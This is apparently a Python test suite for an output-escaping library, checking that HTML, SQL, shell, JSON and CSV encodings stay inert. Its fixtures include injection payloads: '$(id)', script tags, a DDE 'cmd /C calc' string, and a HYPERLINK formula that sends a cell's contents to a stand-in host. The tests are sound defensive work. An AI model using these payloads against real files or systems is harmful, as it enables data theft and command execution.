"""What is escaped for a sink is read by a real parser of that sink as data, and as the text it was."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import subprocess

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from mutx_guardrail.output.sinks import SINKS, encode
from page import Page

HOSTILE = st.sampled_from(
    [
        "<script>",
        "</script>",
        "<!--",
        "'",
        '"',
        "\\",
        "`",
        "${x}",
        "$(id)",
        ";--",
        "&amp;",
        "]]>",
        "\r\n",
        "=1+1",
        "\u2028",
    ]
)
TEXTS = st.lists(st.one_of(HOSTILE, st.text(max_size=10)), max_size=8).map("".join)


def carried(text: str) -> str:
    return "".join("\ufffd" if c == "\x00" or "\ud800" <= c <= "\udfff" else c for c in text)


@given(TEXTS)
def test_html_is_text_between_tags(text):
    page = Page(f"<p>{encode(text, 'html')}</p>")

    assert page.tags == ["p"]
    assert page.text == carried(text)


@pytest.mark.parametrize("quote", ["'", '"'], ids=["single", "double"])
@given(text=TEXTS)
def test_html_is_the_value_of_an_attribute_in_quotes(quote, text):
    page = Page(f"<p title={quote}{encode(text, 'html')}{quote}>x</p>")

    assert page.attributes == [("title", carried(text))]
    assert page.text == "x"


@given(TEXTS)
def test_sql_is_one_literal(text):
    with sqlite3.connect(":memory:") as database:
        rows = database.execute(f"SELECT {encode(text, 'sql')}, 7").fetchall()
    database.close()

    assert rows == [(carried(text), 7)]


@given(TEXTS)
@settings(deadline=None, max_examples=40)
def test_shell_is_one_word(text):
    script = f"printf '%s|' {encode(text, 'shell')} end"

    done = subprocess.run(
        ["/bin/sh", "-c", script], capture_output=True, check=True, env={"LC_ALL": "C.UTF-8"}
    )

    assert done.stdout == f"{carried(text)}|end|".encode()


@given(TEXTS)
def test_json_is_one_string_and_ends_no_script(text):
    encoded = encode(text, "json")

    page = Page(f"<script>var x = {encoded};</script><b>after</b>")

    assert json.loads(encoded) == carried(text)
    assert page.tags == ["script", "b"]
    assert not set("<>&'\u2028\u2029") & set(encoded)


@given(TEXTS)
def test_csv_is_one_field_of_one_row(text):
    rows = list(csv.reader(io.StringIO(f"a,{encode(text, 'csv')},b\r\n", newline="")))

    assert [
        (row[0], row[1].removeprefix("'") == carried(text).removeprefix("'"), row[2]) for row in rows
    ] == [("a", True, "b")]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x.example/?"&A1)',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1+1",
        "＋1+A1",
        "－1+A1",
        "＠SUM(A1)",
        " =1+1",
        "\u200b=1+1",
        "\u00a0=1",
        "|calc",
    ],
)
def test_csv_shows_a_formula_as_text(text):
    (row,) = csv.reader(io.StringIO(encode(text, "csv"), newline=""))

    assert row == ["'" + text]


@pytest.mark.parametrize("text", ["-5", "+3.25", "-1,000.50", "-12 %", "1e5", "a=b", "", "x-y"])
def test_csv_leaves_plain_numbers_and_words(text):
    assert encode(text, "csv") == f'"{text}"'


@given(TEXTS)
def test_text_is_unchanged(text):
    assert encode(text, "text") == text


@pytest.mark.parametrize("sink", [sink for sink in SINKS if sink != "text"])
def test_what_a_sink_cannot_carry_is_replaced(sink):
    encoded = encode("a\x00b\ud800c", sink)

    assert "\x00" not in encoded
    encoded.encode("utf-8")
    assert "\ufffd" in encoded or "\\ufffd" in encoded


def test_a_sink_that_is_none_is_refused():
    with pytest.raises(ValueError, match="there is no sink 'xml'"):
        encode("x", "xml")
